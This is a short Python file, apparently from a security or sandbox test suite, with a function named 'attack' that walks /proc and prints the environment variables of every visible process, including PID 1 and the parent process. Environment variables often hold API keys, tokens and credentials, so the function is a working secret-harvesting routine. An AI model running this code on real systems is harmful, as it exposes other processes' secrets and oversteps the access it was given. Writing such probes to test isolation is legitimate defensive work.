"""Reads the environment of every process that can be seen, the first one and the parent among them."""

import os


def attack(facts: dict[str, str]) -> None:
    for pid in {*filter(str.isdigit, os.listdir("/proc")), "1", str(os.getppid())}:
        try:
            print(pid, open(f"/proc/{pid}/environ", errors="replace").read())
        except OSError:
            continue
